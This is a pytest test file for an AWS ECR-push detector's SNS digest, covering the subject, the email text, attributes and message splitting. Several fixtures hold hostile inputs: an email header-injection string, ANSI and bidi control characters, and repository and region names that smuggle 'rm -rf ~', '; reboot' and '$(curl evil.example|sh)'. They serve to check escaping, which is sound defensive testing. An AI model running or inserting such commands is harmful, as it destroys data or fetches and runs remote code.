"""The SNS digest: subject, email text, JSON body, attributes, and splitting by size."""

from __future__ import annotations

import json
import unicodedata
from typing import Any

import pytest

from detector import digest
from detector.detection import DETECTION
from detector.findings import Finding
from detector.output import document
from tests.contract import JSONL_KEYS

ACCOUNT = "111122223333"
OTHER_ACCOUNT = "444455556666"
CONTRACTOR = f"arn:aws:iam::{ACCOUNT}:user/old-contractor"
SESSION = f"arn:aws:sts::{OTHER_ACCOUNT}:assumed-role/build-role/i-0abc"
ROLE = f"arn:aws:iam::{OTHER_ACCOUNT}:role/build-role"
T0 = 1_714_557_600_000  # 2024-05-01T10:00:00Z
STABLE_KEYS = JSONL_KEYS
SNS_LIMIT = 262_144
UNSAFE = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
ANSI = "\x1b[31mred\x1b[0m\x1b]0;title\x07"


def finding(
    user: str | None = CONTRACTOR,
    *,
    account: str | None = ACCOUNT,
    user_agent: str | None = "aws-cli/2.15.0 Python/3.11.6 Linux/6.1 docker/24.0",
    src_ip: str | None = "203.0.113.7",
    src_domain: str | None = None,
    region: str | None = "us-east-1",
    count: int = 5,
    first_ms: int = T0,
    last_ms: int = T0 + 20 * 60_000,
    succeeded: int = 4,
    failed: int = 1,
    repositories: list[str] | None = None,
    tags: list[str] | None = None,
) -> Finding:
    f = Finding(
        key=("PutImage", user, account, user_agent, src_ip, src_domain, region),
        count=count,
        first_ms=first_ms,
        last_ms=last_ms,
        succeeded=succeeded,
        failed=failed,
    )
    f.repositories.add(["payments-api", "web/frontend"] if repositories is None else repositories)
    f.image_tags.add(["latest", "v1.4.2"] if tags is None else tags)
    f.principal_ids.add(["AIDAEXAMPLEOLDCONTRACTOR"])
    f.event_ids.add(["0b7c3a0e-1111-4a2b-9c1d-2f1e0e6f0a01"])
    f.objects.add(
        [
            "s3://aws-security-data-lake-us-east-1-x/aws/CLOUD_TRAIL_MGMT/2.0/region=us-east-1/"
            f"accountId={ACCOUNT}/eventDay=20240501/a.gz.parquet"
        ]
    )
    return f


def three() -> list[Finding]:
    f2 = finding(SESSION, account=OTHER_ACCOUNT, region="eu-west-1", src_ip="198.51.100.9")
    f2.session_issuers.add([ROLE])
    f3 = finding(
        None,
        user_agent="codebuild.amazonaws.com",
        src_ip=None,
        src_domain="codebuild.amazonaws.com",
        count=2,
        succeeded=2,
        failed=0,
    )
    f3.invoked_by.add(["codebuild.amazonaws.com"])
    return [finding(), f2, f3]


def envelope(message: digest.Message) -> dict[str, str]:
    env = json.loads(message.message)
    assert isinstance(env, dict)
    return env


def body(message: digest.Message) -> dict[str, Any]:
    doc = json.loads(envelope(message)["sqs"])
    assert isinstance(doc, dict)
    return doc


def sns_size(message: digest.Message) -> int:
    """Counted here independently of Message.size: body plus attribute names, types, values."""
    return len(message.message.encode("utf-8")) + sum(
        len(k.encode()) + len(v["DataType"].encode()) + len(v["StringValue"].encode())
        for k, v in message.attributes.items()
    )


def assert_safe_text(text: str) -> None:
    bad = [ch for ch in text if ch != "\n" and unicodedata.category(ch) in UNSAFE]
    assert not bad, f"raw control/format characters: {bad[:5]!r}"


def assert_valid_subject(subject: str) -> None:
    assert 0 < len(subject) < 100
    assert all(" " <= ch <= "~" for ch in subject), subject


# --- subject ---------------------------------------------------------------------------------


def test_subject_names_the_first_principal_and_counts_the_rest() -> None:
    assert digest.subject(three()) == (
        "[MEDIUM] ECR push by unknown principal: old-contractor (+2 more)"
    )
    assert digest.subject([finding()]) == "[MEDIUM] ECR push by unknown principal: old-contractor"


def test_subject_of_a_role_session_and_of_a_service() -> None:
    assert digest.subject([three()[1]]).endswith(": build-role/i-0abc")
    assert digest.subject([three()[2]]).endswith(": codebuild.amazonaws.com")
    assert digest.subject([finding(None)]).endswith(": AIDAEXAMPLEOLDCONTRACTOR")
    nobody = Finding(key=("PutImage", None, None, None, None, None, None), count=1)
    assert digest.subject([nobody]).endswith(": (no caller identity recorded)")
    assert "(no caller identity recorded)" in digest.email_text([nobody])


@pytest.mark.parametrize(
    "user",
    [
        "arn:aws:iam::1:user/evil\r\nBcc: attacker@example.com",
        f"arn:aws:iam::1:user/{ANSI}",
        "arn:aws:iam::1:user/" + "😀" * 500,
        "x" * 1_000_000,
        "a\x00b\u2028c\u202ed\ufeffe\ud800",
        "\n\t \r",
        "arn:aws:iam::1:user/" + "\u0301" * 200,
    ],
)
def test_subject_is_short_printable_ascii_whatever_the_data(user: str) -> None:
    many = [finding(user)] + [finding()] * 12_345
    for findings in ([finding(user)], many):
        subject = digest.subject(findings)
        assert_valid_subject(subject)
        assert subject.startswith("[MEDIUM] ECR push by unknown principal: ")
    assert digest.subject(many).endswith("(+12345 more)")


def test_subject_ignores_a_megabyte_user_agent() -> None:
    assert_valid_subject(digest.subject([finding(user_agent="A" * 1_000_000)]))


# --- email -----------------------------------------------------------------------------------


def flat(text: str) -> str:
    return " ".join(text.split())


def test_email_tells_what_who_where_why_and_what_next() -> None:
    context = {"function": "ecr-upload-detector", "allowlist_parameter": "/ecr/allowlist"}
    text = digest.email_text(three(), context=context)
    words = flat(text)
    for fact in [
        DETECTION.message(CONTRACTOR),  # what happened, per finding
        DETECTION.message(SESSION),
        DETECTION.message("codebuild.amazonaws.com"),
        f"Caller ARN: {CONTRACTOR}",
        f"Account: {ACCOUNT}",
        f"Account: {OTHER_ACCOUNT}",
        f"Session issuer (role) (1): {ROLE}",
        "Principal id (1): AIDAEXAMPLEOLDCONTRACTOR",
        "Invoked by (AWS service) (1): codebuild.amazonaws.com",
        "Source IP: 203.0.113.7",
        "Source domain: codebuild.amazonaws.com",
        "Region: us-east-1",
        "Region: eu-west-1",
        "User agent: aws-cli/2.15.0 Python/3.11.6 Linux/6.1 docker/24.0",
        "Repositories (2): payments-api, web/frontend",
        "Image tags (2): latest, v1.4.2",
        "PutImage calls: 5 (4 succeeded, 1 failed)",
        "PutImage calls: 2 (2 succeeded, 0 failed)",
        "First seen: 2024-05-01 10:00:00 UTC",
        "Last seen: 2024-05-01 10:20:00 UTC",
        "3 findings: 12 PutImage call(s) by 3 principal(s)",
        f"Caller account(s): {ACCOUNT}, {OTHER_ACCOUNT}",
        "T1204.003",
        flat(DETECTION.description),
        flat(DETECTION.how_to_respond),
        "aws ecr describe-images",
        "--repository-name payments-api",
        "aws cloudtrail lookup-events",
        "--start-time 2024-05-01T09:59:00Z",
        "aws ssm get-parameter",
        "--name /ecr/allowlist",
        ROLE,  # the allowlist entry suggested for the role session
        "0b7c3a0e-1111-4a2b-9c1d-2f1e0e6f0a01",
        "eventDay=20240501/a.gz.parquet",
        "function: ecr-upload-detector",
        *DETECTION.references,
    ]:
        assert fact in words, fact
    assert_safe_text(text)


def test_email_lines_are_phone_width() -> None:
    text = digest.email_text(three())
    for line in text.splitlines():
        # A single long token (an ARN, an S3 URI) is kept whole so it can be copied.
        assert len(line) <= 76 or " " not in line.strip(), line


@pytest.mark.parametrize(
    "hostile",
    [
        ANSI,
        "line one\nX-Injected: yes\r\n\tmore",
        "😀" * 1000,
        "\u202etxt.exe\u2066\u2069\u200b\ufeff\u2028\u2029\x85",
        "\ud800 lone surrogate",
        "U" * 1_000_000,
    ],
)
def test_email_escapes_and_caps_hostile_values(hostile: str) -> None:
    f = finding(
        f"arn:aws:iam::{ACCOUNT}:user/{hostile}",
        user_agent=hostile,
        region=hostile,
        repositories=[hostile, "ok-repo"],
        tags=[hostile],
    )
    text = digest.email_text([f], context={hostile: hostile})
    assert_safe_text(text)
    assert len(text) < 40_000  # a megabyte of user agent does not make a megabyte email
    for line in text.splitlines():
        assert len(line) <= 400, line[:80]
    if "\x1b" in hostile:
        assert "\\x1b[31mred" in text
    text.encode("utf-8")  # no lone surrogate left


def test_email_never_puts_a_hostile_repository_name_into_a_command() -> None:
    f = finding(repositories=["app; rm -rf ~", "$(curl evil.example|sh)", "good/repo"])
    text = digest.email_text([f])
    commands = [ln for ln in text.splitlines() if "--repository-name" in ln]
    assert commands == ["      --repository-name good/repo \\"]
    assert "rm -rf" in text  # still reported, as data
    bad_region = finding(region="us-east-1; reboot", repositories=["app"])
    assert "--region" not in digest.email_text([bad_region])


def test_email_notes_a_failed_only_push() -> None:
    text = digest.email_text([finding(succeeded=0, failed=3, count=3)])
    assert "No push succeeded" in text


def test_empty_digest_is_a_mistake() -> None:
    with pytest.raises(ValueError):
        digest.email_text([])
    with pytest.raises(ValueError):
        digest.subject([])
    with pytest.raises(ValueError):
        digest.messages([])


# --- JSON body and attributes ----------------------------------------------------------------


def test_json_body_is_the_shared_document() -> None:
    findings = three()
    doc = json.loads(digest.json_body(findings))
    assert doc == json.loads(json.dumps(document(findings)))
    assert doc["detection"]["id"] == DETECTION.id
    assert [r["user"] for r in doc["findings"]] == [CONTRACTOR, SESSION, None]
    for rec in doc["findings"]:
        assert list(rec)[:10] == STABLE_KEYS


def test_attributes_for_filter_policies() -> None:
    findings = [*three(), finding(account=None, region=None)]
    attrs = digest.attributes(findings)
    assert attrs["severity"] == {"DataType": "String", "StringValue": "medium"}
    assert attrs["detection_id"] == {"DataType": "String", "StringValue": DETECTION.id}
    assert attrs["finding_count"] == {"DataType": "Number", "StringValue": "4"}
    assert attrs["account_ids"]["DataType"] == "String.Array"
    assert json.loads(attrs["account_ids"]["StringValue"]) == [ACCOUNT, OTHER_ACCOUNT]
    assert json.loads(attrs["regions"]["StringValue"]) == ["eu-west-1", "us-east-1"]
    for name, attr in attrs.items():
        assert name.isidentifier() and len(name) <= 256
        assert attr["DataType"] in {"String", "String.Array", "Number"}
        assert attr["StringValue"]
        attr["StringValue"].encode("ascii")


def test_attributes_escape_hostile_values() -> None:
    attrs = digest.attributes([finding(account='1"]\n', region="\x1b😀")])
    assert json.loads(attrs["account_ids"]["StringValue"]) == ['1"]\n']
    assert json.loads(attrs["regions"]["StringValue"]) == ["\x1b😀"]
    assert all(" " <= ch <= "~" for a in attrs.values() for ch in a["StringValue"])


# --- messages --------------------------------------------------------------------------------


def test_one_message_when_it_fits() -> None:
    findings = three()
    context = {"function": "f", "request_id": "r-1"}
    [message] = digest.messages(findings, context=context)
    env = envelope(message)
    assert set(env) == {"default", "email", "sqs"}
    assert env["default"] == env["sqs"]
    assert env["email"] == digest.email_text(findings, context=context)
    assert message.subject == digest.subject(findings)
    assert message.attributes == digest.attributes(findings)
    assert message.finding_count == 3
    doc = body(message)
    assert doc == json.loads(
        json.dumps(
            document(
                findings,
                digest={
                    "part": 1,
                    "parts": 1,
                    "finding_count": 3,
                    "first_finding": 1,
                    "total_findings": 3,
                },
                context=context,
            )
        )
    )
    assert message.size <= sns_size(message) + 200
    assert sns_size(message) < SNS_LIMIT


def test_two_thousand_findings_split_without_loss() -> None:
    findings = [
        finding(
            f"{CONTRACTOR}-{i}",
            user_agent=f"Mozilla/5.0 {'😀' if i % 3 == 0 else 'x'}" * 150 + f" #{i}",
            account=f"{i % 7:012d}",
            region=["us-east-1", "eu-west-1"][i % 2],
            last_ms=T0 + i,
        )
        for i in range(2000)
    ]
    parts = digest.messages(findings)
    assert len(parts) > 1
    seen: list[tuple[Any, ...]] = []
    for i, message in enumerate(parts, 1):
        assert sns_size(message) <= SNS_LIMIT - digest.HEADROOM
        assert_valid_subject(message.subject)
        assert message.subject.endswith(f"(part {i}/{len(parts)})")
        doc = body(message)
        assert doc["digest"]["part"] == i and doc["digest"]["parts"] == len(parts)
        assert doc["digest"]["finding_count"] == len(doc["findings"]) == message.finding_count
        assert message.attributes["finding_count"]["StringValue"] == str(len(doc["findings"]))
        accounts = {r["actor.user.account.uid"] for r in doc["findings"]}
        assert json.loads(message.attributes["account_ids"]["StringValue"]) == sorted(accounts)
        email = envelope(message)["email"]
        assert f"Part {i} of {len(parts)} of this digest" in email
        assert_safe_text(email)
        for rec in doc["findings"]:
            assert "truncated_for_size" not in rec
            seen.append(tuple(rec[k] for k in STABLE_KEYS))
    expected = [tuple(f.to_record()[k] for k in STABLE_KEYS) for f in findings]
    assert seen == expected  # every finding exactly once, in order


def test_parts_respect_a_smaller_limit() -> None:
    findings = [finding(f"{CONTRACTOR}-{i}") for i in range(200)]
    parts = digest.messages(findings, max_bytes=50_000)
    assert len(parts) > 3
    assert all(sns_size(m) <= 50_000 - digest.HEADROOM for m in parts)
    assert sum(m.finding_count for m in parts) == 200


def test_an_oversize_finding_is_shrunk_not_dropped() -> None:
    big = finding(
        f"arn:aws:iam::{ACCOUNT}:user/big",
        user_agent="U" * 1_000_000,
        repositories=[f"repo-{i}-" + "r" * 20_000 for i in range(50)],
        tags=[f"t{i}" * 5_000 for i in range(50)],
        count=7,
    )
    small = [finding(f"{CONTRACTOR}-{i}") for i in range(3)]
    parts = digest.messages([small[0], big, *small[1:]])
    records = [rec for m in parts for rec in body(m)["findings"]]
    assert [r["user"] for r in records] == [
        f"{CONTRACTOR}-0",
        f"arn:aws:iam::{ACCOUNT}:user/big",
        f"{CONTRACTOR}-1",
        f"{CONTRACTOR}-2",
    ]
    shrunk = records[1]
    assert shrunk["truncated_for_size"] is True
    assert shrunk["samples_truncated"] is True
    assert shrunk["count"] == 7
    assert list(shrunk)[:10] == STABLE_KEYS
    assert shrunk["user_agent"].startswith("UUUU") and len(shrunk["user_agent"]) < 10_000
    assert shrunk["repositories"] and shrunk["repositories"][0].startswith("repo-0-")
    for m in parts:
        assert sns_size(m) <= SNS_LIMIT - digest.HEADROOM
    assert "cut to fit the SNS size limit" in flat(envelope(parts[0])["email"])
    # The others are untouched.
    assert all("truncated_for_size" not in r for i, r in enumerate(records) if i != 1)


def test_a_message_too_small_for_any_finding_is_refused() -> None:
    with pytest.raises(ValueError, match="cannot hold"):
        digest.messages([finding(user_agent="U" * 100_000)], max_bytes=8_000)


def test_lone_surrogates_and_emoji_are_sized_in_bytes() -> None:
    findings = [finding(f"{CONTRACTOR}-{i}", user_agent="😀\ud800" * 3000) for i in range(40)]
    parts = digest.messages(findings, max_bytes=100_000)
    for m in parts:
        m.message.encode("utf-8")  # encodable: the body is ASCII JSON, the email escaped
        assert sns_size(m) <= 100_000 - digest.HEADROOM
    assert sum(m.finding_count for m in parts) == 40


def test_email_shows_a_bounded_list_and_says_when_samples_were_capped() -> None:
    f = finding(repositories=[f"repo-{i:02d}" for i in range(60)])
    text = digest.email_text([f])
    assert "Repositories (50): repo-00, repo-01" in flat(text)
    assert "(+40 more in the JSON)" in text
    assert "More distinct values were seen than the detector keeps" in flat(text)
    assert "More distinct values" not in digest.email_text([finding()])
